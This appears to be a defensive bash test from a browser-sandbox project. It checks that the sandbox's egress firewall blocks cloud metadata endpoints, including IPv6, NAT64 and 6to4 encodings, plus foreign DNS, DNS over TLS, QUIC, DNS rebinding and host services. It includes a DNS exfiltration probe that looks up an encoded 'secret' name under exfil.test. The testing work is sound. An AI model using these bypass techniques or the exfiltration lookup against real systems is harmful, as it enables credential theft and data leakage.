#!/bin/bash
# attacks/egress.sh: getting data out past the egress firewall of a
# filtered sandbox with a real uplink: cloud metadata in IPv4, IPv6,
# IPv4-mapped, NAT64 and 6to4 forms; DNS exfiltration through query names;
# DNS rebinding to private, metadata and loopback addresses; foreign
# resolvers (UDP/TCP 53), DNS over TLS (853), QUIC (UDP 443); the host's
# own services through the uplink's gateway.
#
# The launcher runs inside a network namespace H made here ("the host"),
# whose default route leads to a second one, I ("the internet"), that
# holds every target address with a listener: a refusal is the firewall's,
# not a missing host. Nothing leaves the namespaces this test creates.
set -u
. "${top_srcdir:-$(dirname "$0")/../..}/tests/attacks/lib.sh"
. "$top_srcdir/tests/netlib.sh"

SERVE=$top_builddir/tests/helpers/nft-apply
launcher_setup ip getent

fakenet_make bcatk 198.51.100.2/24 198.51.100.1 2001:db8:1::2/64 2001:db8:1::1
fakenet_hold 169.254.169.254 169.254.170.2 100.100.100.200 168.63.129.16 203.0.113.53 10.0.0.1 \
	fd00:ec2::254 64:ff9b::a9fe:a9fe 2002:a9fe:a9fe::1

# Listeners: the internet on every address; "host services" in H on all of
# H's addresses, loopback included; the sandbox's upstream resolver and a
# foreign one, each logging the names it is asked.
fakenet_serve $I "$SCRATCH/serveI" "$SERVE" --serve 80 443 853
fakenet_serve $H "$SCRATCH/serveH" "$SERVE" --serve 8080
fakenet_serve $I "$SCRATCH/upstream" "$PROBE" dns-serve 198.51.100.1
fakenet_serve $I "$SCRATCH/foreign" "$PROBE" dns-serve 203.0.113.53
fakenet_ready "$SCRATCH/serveI" "$SCRATCH/serveH" "$SCRATCH/upstream" "$SCRATCH/foreign"
check "(the test internet answers from H)" inH "$SERVE" --connect 169.254.169.254 80

POL=$SCRATCH/filtered.ini
write_policy "$POL" "network.allow_domains = allowed.test, *.allowed.test" \
	"network.allow_cidrs = 0.0.0.0/0, ::/0" "network.allow_ports = 80, 443, 853, 8080" \
	"network.dns_upstream = 198.51.100.1" "network.veth_pool = 10.250.0.0/24"
# (A pool of its own: the slot locks under /run/browsercage/uplink are
# shared with launchers in the real host netns, whose gc must not mistake
# a slot held here for one of theirs.)
sed -i 's/^mode = none$/mode = filtered/' "$POL"

for who in root "$TEST_USER"; do
	netrun_as "$who"

	out=$(run /bin/true 2>&1); rc=$?
	if [ $rc != 0 ]; then
		fail "$who: a filtered sandbox with an uplink starts (pending uplink?)"; diag "$out"
		continue
	fi
	ok "$who: a filtered sandbox with an uplink starts"
	check "$who: (an allowed static destination is reached: the uplink works)" reached 198.51.100.1 80 tcp

	for a in 169.254.169.254 169.254.170.2 100.100.100.200 168.63.129.16; do
		check "$who: metadata $a refused although 0.0.0.0/0 is allowed" refused $a 80 tcp
	done
	check "$who: metadata fd00:ec2::254 refused although ::/0 is allowed" refused fd00:ec2::254 80 tcp
	check "$who: IPv4-mapped ::ffff:169.254.169.254 refused" refused ::ffff:169.254.169.254 80 tcp
	check "$who: NAT64 64:ff9b::a9fe:a9fe refused" refused 64:ff9b::a9fe:a9fe 80 tcp
	check "$who: 6to4 2002:a9fe:a9fe::1 refused" refused 2002:a9fe:a9fe::1 80 tcp
	check "$who: refusals are in the audit log (egress_refused 169.254.169.254)" \
		grep -q '"egress_refused".*169\.254\.169\.254' "$aud"

	check "$who: a foreign resolver over UDP 53 is refused" refused 203.0.113.53 53 udp
	check "$who: the upstream resolver cannot be reached directly (TCP 53)" refused 198.51.100.1 53 tcp
	check "$who: DNS over TLS (TCP 853) refused although 853 is an allowed port" refused 203.0.113.53 853 tcp
	check "$who: QUIC (UDP 443) refused without allow_quic" refused 198.51.100.1 443 udp
	gw=$(run "$PROBE" gateway 2>/dev/null)
	check "$who: (the sandbox has a default gateway: ${gw:-none})" [ -n "$gw" ]
	# veth: the gateway is H itself; pasta: the real next hop (I, where
	# nothing listens on 8080), unless it mapped the gateway to H's loopback.
	check "$who: the host's services through the uplink gateway ($gw:8080) refused" refused "${gw:-0.0.0.0}" 8080 tcp
	check "$who: the host's own address (198.51.100.2:8080) refused" refused 198.51.100.2 8080 tcp

	check "$who: (an allowed name resolves through the filter)" \
		run /bin/sh -c 'getent ahostsv4 www.allowed.test | grep -q 198.51.100.1'
	run getent hosts "c2VjcmV0LSR3aG8.exfil.test" >/dev/null 2>&1
	check "$who: DNS exfiltration: a name outside the allowlist never reaches the upstream" \
		! grep -q exfil "$SCRATCH/upstream"
	check "$who: ...nor any resolver outside" ! grep -q query "$SCRATCH/foreign"
	for n in rebind meta loop; do
		got=$(run getent ahostsv4 $n.allowed.test 2>&1)
		if grep -q -e 10.0.0.1 -e 169.254.169.254 -e 127.0.0.1 <<<"$got"; then
			fail "$who: rebinding: $n.allowed.test does not resolve to its private answer"
			diag "$got" "$(grep "\"$n.allowed.test\"" "$aud" | tail -1)"
		else
			ok "$who: rebinding: $n.allowed.test does not resolve to its private answer"
		fi
	done
	check "$who: ...and 10.0.0.1 stays unreachable after the attempt" refused 10.0.0.1 80 tcp
done

done_testing
